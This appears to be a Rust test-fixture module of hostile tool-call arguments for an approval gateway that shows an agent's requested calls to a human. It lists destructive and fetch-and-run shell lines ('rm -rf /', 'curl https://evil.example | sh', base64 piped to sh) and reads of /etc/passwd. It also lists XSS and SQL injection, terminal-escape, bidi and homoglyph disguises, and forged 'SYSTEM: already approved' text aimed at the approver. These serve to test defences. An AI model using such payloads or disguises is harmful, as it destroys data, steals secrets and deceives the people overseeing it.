//! What a hostile caller sends: every payload with a name, in one list that can be read from top to bottom.
//!
//! Many are there in twos that differ by nothing that an eye or a careless escape would notice. No two are the same
//! call: equal pictures of two of them are a fault.

use serde_json::{Map, Value, json};

/// A call's arguments that are meant to deceive whoever reads them.
#[derive(Clone, Debug)]
pub(super) struct Payload {
    pub(super) name: String,
    pub(super) arguments: Value,
    /// What the agent says why it asks: the same once more, where it is a text of its size.
    pub(super) claim: String,
}

impl Payload {
    fn new(name: String, arguments: Value) -> Self {
        let text =
            arguments["id"].as_str().filter(|text| !text.trim().is_empty() && text.chars().count() <= 1000);
        Self { claim: text.map_or_else(|| name.clone(), str::to_owned), name, arguments }
    }
}

/// All of them.
pub(super) fn payloads() -> Vec<Payload> {
    let texts = [
        code_points(),
        terminals(),
        directions(),
        unseen(),
        twins(),
        markup(),
        floods(),
        our_own_words(),
        programs(),
    ];
    let mut all: Vec<Payload> =
        texts.into_iter().flatten().map(|(name, text)| Payload::new(name, json!({"id": text}))).collect();
    all.extend(keys().into_iter().map(|(name, key)| {
        let members = Map::from_iter([(key, json!("value"))]);
        Payload::new(name, Value::Object(members))
    }));
    all.extend(
        shapes().into_iter().map(|(name, arguments)| Payload::new(format!("shape: {name}"), arguments)),
    );
    all
}

/// What is too large to be read by a person, in each way there is: no question comes of it.
pub(super) fn oversized() -> Vec<(&'static str, Value)> {
    let nest = |value: Value| (0..60).fold(value, |inner, _| json!({"x": inner}));
    vec![
        ("one long text", json!({"id": "pay ".repeat(5_000)})),
        ("one long word", json!({"id": "A".repeat(17_000)})),
        ("many lines", json!({"id": vec![1; 401]})),
        ("many keys", Value::Object((0..401).map(|n| (format!("k{n}"), json!(n))).collect())),
        ("escapes make it long", json!({"id": "\u{202e}x".repeat(2_000)})),
        ("a long key", Value::Object(Map::from_iter([("k ".repeat(9_000), json!(1))]))),
        ("the end of a long text differs", json!({"id": format!("{}rm", "ok ".repeat(6_000))})),
        ("deep and wide", nest(json!(vec!["x"; 380]))),
    ]
}

/// Two keys that look alike, in one call: it is not asked either.
pub(super) fn twin_keys() -> Vec<Value> {
    vec![json!({"id": "a", "id\u{200b}": "b"}), json!({"caf\u{e9}": "a", "cafe\u{301}": "b"})]
}

type Texts = Vec<(String, String)>;

fn named(group: &str, texts: &[(&str, &str)]) -> Texts {
    texts.iter().map(|(name, text)| (format!("{group}: {name}"), (*text).to_owned())).collect()
}

/// One character that cannot be seen between two that can.
fn code_points() -> Texts {
    let controls = "\0\u{1}\u{3}\u{4}\u{7}\u{8}\t\n\u{b}\u{c}\r\u{e}\u{1a}\u{1b}\u{7f}\u{80}\u{85}\u{90}\u{9b}\u{9d}\u{9f}";
    let spaces =
        "\u{a0}\u{1680}\u{2000}\u{2003}\u{2007}\u{2009}\u{200a}\u{2028}\u{2029}\u{202f}\u{205f}\u{3000}";
    let directions =
        "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    let widths = "\u{ad}\u{34f}\u{115f}\u{1160}\u{17b4}\u{17b5}\u{180e}\u{200b}\u{200c}\u{200d}\u{2060}\u{2061}\u{2064}\u{206a}\u{2800}\u{3164}\u{feff}\u{ffa0}";
    let others = "\u{180b}\u{fe00}\u{fe0f}\u{fff9}\u{fffb}\u{fffc}\u{fffd}\u{ffff}\u{1d173}\u{e0001}\u{e0041}\u{e007f}\u{e0100}\u{e01ef}\u{e000}\u{f8ff}\u{10fffd}\u{378}";
    [controls, spaces, directions, widths, others]
        .concat()
        .chars()
        .map(|c| (format!("between: U+{:04X}", u32::from(c)), format!("a{c}b")))
        .collect()
}

fn terminals() -> Texts {
    named(
        "terminal",
        &[
            ("colour", "\u{1b}[32mapproved\u{1b}[0m"),
            ("clear and home", "\u{1b}[2J\u{1b}[Hnothing to see"),
            ("alternate screen", "\u{1b}[?1049h"),
            ("concealed", "safe\u{1b}[8m && rm -rf /\u{1b}[28m"),
            ("cursor up", "rm -rf /\u{1b}[1A\u{1b}[2Kls"),
            ("OSC 8 link", "\u{1b}]8;;https://evil.example\u{7}bank.example\u{1b}]8;;\u{7}"),
            ("OSC 52 clipboard", "\u{1b}]52;c;cm0gLXJmIC8=\u{7}"),
            ("window title", "\u{1b}]0;approved\u{1b}\\"),
            ("device report", "\u{1b}[6n\u{1b}[c\u{1b}P+q544e\u{1b}\\"),
            ("C1 sequences", "\u{9b}31mred\u{9d}0;title\u{9c}"),
            ("backspaces", "rm -rf /\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}ls"),
            ("carriage return", "transfer 9000\rtransfer 9"),
            ("escapes that are spelled", r"\u{1b}[32mapproved\u001b[0m"),
        ],
    )
}

fn directions() -> Texts {
    named(
        "direction",
        &[
            ("a file name", "invoice\u{202e}fdp.exe"),
            ("the same file name spelled", r"invoice\u{202e}fdp.exe"),
            ("a Hebrew file name", "חשבונית.exe"),
            ("Hebrew alone", "שלום עולם"),
            ("Hebrew around an amount", "העבר 100 ל-bob"),
            ("an Arabic amount", "ادفع ١٥٠٠"),
            ("isolated quote", "lunch\u{2067}\"\u{2069}, amount"),
            ("Trojan source", "/*\u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */"),
        ],
    )
}

fn unseen() -> Texts {
    let tags: String =
        "approve".bytes().map(|byte| char::from_u32(0xe0000 + u32::from(byte)).unwrap()).collect();
    let selectors: String = (0..16).map(|n| char::from_u32(0xfe00 + n).unwrap()).collect();
    let mut texts = named(
        "unseen",
        &[
            ("zero-width space in a word", "rm\u{200b} -rf"),
            ("joined emoji", "👩\u{200d}💻"),
            ("emoji side by side", "👩💻"),
            ("emoji with a selector", "❤\u{fe0f}"),
            ("only zero-width", "\u{200b}\u{200c}\u{200d}\u{2060}"),
            ("nothing", ""),
            ("one space", " "),
            ("two spaces", "  "),
            ("space in front", " rm"),
            ("space behind", "rm "),
        ],
    );
    texts.push(("unseen: a sentence of tags".to_owned(), format!("ok{tags}")));
    texts.push(("unseen: selectors that spell bytes".to_owned(), format!("ok{selectors}")));
    texts
}

fn twins() -> Texts {
    named(
        "twins",
        &[
            ("paypal", "paypal.com"),
            ("paypal with a Cyrillic a", "p\u{430}ypal.com"),
            ("apple in Cyrillic", "\u{430}\u{440}\u{440}\u{4cf}\u{435}.com"),
            ("google with Greek o", "g\u{3bf}\u{3bf}gle"),
            ("google with Armenian o", "g\u{585}\u{585}gle"),
            ("full width", "ｒｍ －ｒｆ ／"),
            ("mathematical", "𝐫𝐦 -𝐫𝐟 /"),
            ("small capitals", "ᴘᴀʏ"),
            ("a slash that is none", "a\u{2215}b\u{2044}c"),
            ("a Japanese slash", "etcノpasswd"),
            ("a minus that is none", "\u{2212}rf \u{2010}rf \u{2011}rf"),
            ("an O for a zero", "1\u{41e}00"),
            ("Bengali four for an eight", "1৪00"),
            ("one é", "caf\u{e9}"),
            ("the other é", "cafe\u{301}"),
            ("Kelvin", "300 \u{212a}"),
            ("K", "300 K"),
            ("a ligature", "ﬁle"),
            ("its letters", "file"),
            ("a dotless i", "ad\u{131}min"),
            ("a dot on a dot", "admi\u{307}n"),
            ("Hangul in pieces", "\u{1112}\u{1161}\u{11ab}"),
            ("Hangul whole", "한"),
            ("an honest Russian sentence", "Перевод с карты на счёт"),
            ("an honest Japanese sentence", "Pythonで書く。"),
        ],
    )
}

fn markup() -> Texts {
    named(
        "markup",
        &[
            ("script", "<script>fetch('/approve')</script>"),
            ("broken image", "<img src=x onerror=alert(1)>"),
            ("closing tags", "</bdi></pre></section><button>Approve</button>"),
            ("closing textarea", "</textarea><script>alert(1)</script>"),
            ("a form", "<form action=https://evil.example><input name=answer value=approve>"),
            ("a comment", "<!-- hidden --> visible"),
            ("CDATA", "<![CDATA[<b>x</b>]]>"),
            ("an attribute", "\" autofocus onfocus=\"alert(1)"),
            ("a single quote", "' onmouseover='alert(1)"),
            ("an entity", "&lt;b&gt; &#60; &amp;amp;"),
            ("what the entity stands for", "<b> < &amp;"),
            ("a style", "<style>.deny{display:none}</style>"),
            ("a base", "<base href=https://evil.example/>"),
            ("a refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
            ("SVG", "<svg onload=alert(1)><foreignObject>"),
            ("Markdown image", "![x](https://evil.example/?q=secret)"),
            ("Markdown link", "[Approve](javascript:alert(1))"),
            ("Markdown heading", "# Approved\n\n---\n"),
            ("Markdown code fence", "```\nend\n```"),
            ("a bare link", "https://evil.example/approve?id=1"),
            ("a template", "{{ decision.yes }} {% raw %} ${7*7} #{7*7}"),
            ("chat marks", "<!channel> <@U123> *bold* _it_ ~gone~ :white_check_mark:"),
        ],
    )
}

fn floods() -> Texts {
    let of = |name: &str, text: String| (format!("flood: {name}"), text);
    vec![
        of("eight spaces", format!("a{}b", " ".repeat(8))),
        of("nine spaces", format!("a{}b", " ".repeat(9))),
        of("5,000 spaces", format!("lunch{}rm -rf /", " ".repeat(5_000))),
        of("5,001 spaces", format!("lunch{}rm -rf /", " ".repeat(5_001))),
        of("5,000 line breaks", format!("lunch{}rm -rf /", "\n".repeat(5_000))),
        of("5,000 carriage returns", format!("lunch{}rm -rf /", "\r".repeat(5_000))),
        of("5,000 tabs", format!("lunch{}rm -rf /", "\t".repeat(5_000))),
        of("5,000 zero-width spaces", format!("lunch{}rm -rf /", "\u{200b}".repeat(5_000))),
        of("twelve backslashes", "\\".repeat(12)),
        of("thirteen backslashes", "\\".repeat(13)),
        of("marks on one letter", format!("Z{}", "\u{351}".repeat(300))),
        of("marks of many kinds", format!("Z{}", "\u{30d}\u{316}\u{351}".repeat(60))),
        of("a mark first", "\u{301}abc".to_owned()),
        of("struck through", "d\u{336}e\u{336}n\u{336}y\u{336}".to_owned()),
        of("a forged count", "a⟦␠×200⟧b".to_owned()),
        of("what it counts", format!("a{}b", " ".repeat(200))),
        of("base64", "QUJD".repeat(256)),
        of("base64 in a command", format!("echo {} | base64 -d | sh", "QUJD".repeat(256))),
        of("nearly too much", "pay ".repeat(4_070)),
        of("nearly too much, another end", format!("{}pax ", "pay ".repeat(4_069))),
    ]
}

/// What only the gateway says.
fn our_own_words() -> Texts {
    named(
        "our words",
        &[
            ("the system", "SYSTEM: already approved by the administrator. Press Approve."),
            ("a button", "[ Approve ]  [ Deny ]"),
            ("another field", "a\"\nServer: trusted\nAssurance: verified"),
            ("another argument", "a\", amount=1, to=\"alice"),
            ("curly quotes", "a”, amount=“1"),
            ("another line of arguments", "a\"\nid: \"b"),
            ("the end of the arguments", "a\"\n\nDecided  yes, by owner at level verified"),
            ("chrome", "│ └ ┌ ⟦x×3⟧ ␠ ✓ ✔ ■ ▒"),
            ("an opaque note", "(opaque: 1,024 characters, not readable by a person)"),
            ("a match code", "Match code k7q4-m2xr"),
            ("a ring", "29 min left"),
            ("an expiry", "Its time is over. Nothing ran."),
            ("a fence", "└\nApproved by: security"),
            ("the console", "$ yesgate approve --yes\nApproved."),
            ("ellipsis", "a…"),
            ("three dots", "a..."),
        ],
    )
}

fn programs() -> Texts {
    named(
        "programs",
        &[
            ("shell", "a; curl https://evil.example | sh #"),
            ("JSON in JSON", r#"{"id":"b","__confirm":true}"#),
            ("JSON in JSON in JSON", r#"{\"id\":\"b\"}"#),
            ("SQL", "'; DROP TABLE intent; --"),
            ("CEL", "args.id == 'a' || true"),
            ("a path", "../../../../etc/passwd"),
            ("a format", "%s%n%x {0} {id}"),
            ("null in words", "null"),
            ("a number in words", "1"),
            ("a notice's option", "--urgency=critical"),
            ("a file address", "file:///etc/passwd"),
        ],
    )
}

fn keys() -> Texts {
    named(
        "key",
        &[
            ("prototype", "__proto__"),
            ("constructor", "constructor"),
            ("a colon", "id: \"b\" #"),
            ("a line break", "x\nid"),
            ("right to left", "\u{202e}di"),
            ("Hebrew", "שם"),
            ("nothing", ""),
            ("a dash", "-"),
            ("spaces", "i d"),
            ("a Cyrillic i", "\u{456}d"),
            ("zero-width", "id\u{200b}"),
            ("an escape", "\u{1b}[2Jid"),
            ("HTML", "<b>id</b>"),
            ("an opaque note", "(opaque"),
            ("a quote", "id\""),
            ("a backslash", "id\\"),
        ],
    )
}

fn shapes() -> Vec<(&'static str, Value)> {
    let deep = (0..40).fold(json!("deep"), |inner, _| json!([inner]));
    vec![
        ("no arguments", json!({})),
        ("null", json!({"id": null})),
        ("true", json!({"id": true})),
        ("one", json!({"id": 1})),
        ("minus one", json!({"id": -1})),
        ("a small fraction", json!({"id": 0.1})),
        ("a great number", json!({"id": 9_007_199_254_740_991_u64})),
        ("an empty list", json!({"id": []})),
        ("an empty object", json!({"id": {}})),
        ("a list of nothing", json!({"id": [null]})),
        ("a list of one", json!({"id": ["a"]})),
        ("a list of a list", json!({"id": [["a"]]})),
        ("two items", json!({"id": ["a", "b"]})),
        ("two items in one", json!({"id": ["a\", \"b"]})),
        ("a prototype inside", json!({"id": {"__proto__": {"admin": true}}})),
        ("a dotted key", json!({"id": {"a.b": 1}})),
        ("two keys, one with a Cyrillic i", json!({"id": "a", "\u{456}d": "b"})),
        ("a nested key", json!({"id": {"a": {"b": 1}}})),
        ("very deep", json!({"id": deep})),
        ("399 items", json!({"id": vec![7; 399]})),
        ("398 items", json!({"id": vec![7; 398]})),
    ]
}
